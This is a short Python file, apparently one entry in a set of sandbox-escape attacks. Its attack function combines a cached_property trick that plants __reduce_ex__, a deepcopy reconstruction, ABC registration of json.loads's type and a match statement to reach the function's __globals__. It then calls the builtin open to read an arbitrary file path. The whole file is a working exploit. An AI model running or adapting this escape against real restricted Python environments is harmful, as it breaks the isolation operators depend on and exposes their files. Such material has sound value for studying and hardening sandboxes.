# A cached property of the library's writes the name into the dict.
# after: read
# source: own
import copy
import json
from abc import ABC
from functools import cached_property
class U(ABC): pass
class CP(cached_property): pass
class A: pass
def attack(path, **_):
    place = CP(lambda self: lambda p: (lambda: U, (), (None, {"__match_args__": ("__globals__",)})))
    place.attrname = "__reduce_ex__"
    A.x = place
    a = A()
    a.x
    copy.deepcopy(a)
    U.register(type(json.loads))
    match json.loads:
        case U(found):
            return {"text": found["__builtins__"]["open"](path).read()}
